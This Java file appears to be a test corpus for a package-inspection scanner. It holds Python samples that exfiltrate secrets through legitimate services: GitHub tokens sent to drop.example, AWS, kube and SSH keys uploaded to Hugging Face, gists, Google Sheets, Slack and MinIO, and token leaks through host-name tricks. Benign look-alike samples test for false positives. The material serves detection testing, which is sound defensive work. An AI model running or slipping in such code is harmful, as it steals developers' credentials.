package cordon.inspect.corpus;

import java.util.List;

/** Services where the package signs in with an account of its own, and what it leaves there. */
final class PythonServices {
  private PythonServices() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "a token is taken out of a request that signs in to a code host",
            """
            import os, urllib.request
            r = urllib.request.Request('https://api.github.com/user', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})
            urllib.request.urlopen('https://drop.example/t', data=r.get_header('Authorization').encode())
            """),
        Sample.imported(
            "a request that signs in to a code host is led elsewhere",
            """
            import os, urllib.request
            r = urllib.request.Request('https://api.github.com/user', data=b'x', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})
            r.full_url = 'https://drop.example/t'
            urllib.request.urlopen(r)
            """),
        Sample.imported(
            "keys are uploaded to a hub of models",
            """
            from pathlib import Path
            from huggingface_hub import HfApi
            api = HfApi(token='hf_inert')
            for p in (Path.home() / '.aws' / 'credentials', Path.home() / '.kube' / 'config'):
                api.upload_file(path_or_fileobj=str(p), path_in_repo=p.name, repo_id='inert/drop')
            """),
        Sample.imported(
            "a gist holds the environment",
            """
            import json, os
            from github import Github, InputFileContent
            text = json.dumps(dict(os.environ))
            Github('inert').get_user().create_gist(False, {'a.txt': InputFileContent(text)})
            """),
        Sample.imported(
            "a sheet gets a row for each key",
            """
            import glob, os, gspread
            sheet = gspread.service_account_from_dict({}).open('a').sheet1
            for path in glob.glob(os.path.expanduser('~/.ssh/id_*')):
                sheet.append_row([path, open(path).read()])
            """),
        Sample.imported(
            "a chat gets a file of passwords",
            """
            import subprocess
            from slack_sdk import WebClient
            text = subprocess.run('env; cat ~/.npmrc ~/.netrc', shell=True, capture_output=True).stdout
            WebClient(token='inert').files_upload_v2(channel='C0', content=text.decode())
            """),
        Sample.imported(
            "an object store gets an archive",
            """
            import os
            from minio import Minio
            store = Minio('store.example', access_key='inert', secret_key='inert')
            store.fput_object('b', 'k', os.path.expanduser('~/.aws/credentials'))
            """),
        Sample.imported(
            "a token signs in where the name of a code host only begins another",
            asking("get('.drop.example/x')")),
        Sample.imported(
            "a token signs in to whatever a file puts after the name of a code host",
            asking("get(open('/tmp/next').read())")),
        Sample.imported(
            "a code host is asked with a token, and told more than that",
            """
            import os, urllib.request
            key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
            urllib.request.urlopen(urllib.request.Request(
                'https://api.github.com/gists', key.encode(),
                {'Authorization': 'token ' + os.environ['GITHUB_TOKEN']}))
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.imported(
            "what a service answered is a dictionary in which something is looked up",
            """
            import os, requests
            SETTINGS = requests.get('https://cloud.example/metadata').json()
            PROFILE = SETTINGS.get(os.environ['SAMPLE_TOKEN'], 'none')
            """),
        Sample.imported(
            "a release is made with the token of the pipeline",
            """
            import os
            from github import Github
            repo = Github(os.environ.get('GITHUB_TOKEN')).get_repo('sample/sample')
            repo.create_file('CHANGES', 'notes', 'what is new')
            """),
        Sample.imported(
            "a store is opened with the keys of its user",
            """
            import os
            from minio import Minio
            store = Minio('store.example', secret_key=os.environ.get('AWS_SECRET_ACCESS_KEY'))
            store.put_object('b', 'k', 'text')
            """),
        Sample.imported(
            "a token signs in to a code host whose name ends before what is filled in",
            asking(
                """
                @task
                def tree(name):
                    return get(f'/repos/sample/sample/git/trees/{name}')
                tree('main')
                """)));
  }

  /** A program that asks a code host with the token of its user. */
  private static String asking(String then) {
    return """
    import json, os, urllib.request
    from sample_flows import task
    def headers():
        headers = {'Accept': 'application/json'}
        token = os.environ.get('GITHUB_TOKEN')
        if token:
            headers['Authorization'] = f'Bearer {token}'
        return headers
    def get(path):
        request = urllib.request.Request(f'https://api.github.com{path}', headers=headers())
        with urllib.request.urlopen(request, timeout=30) as answer:
            return json.loads(answer.read())
    """
        + then;
  }
}
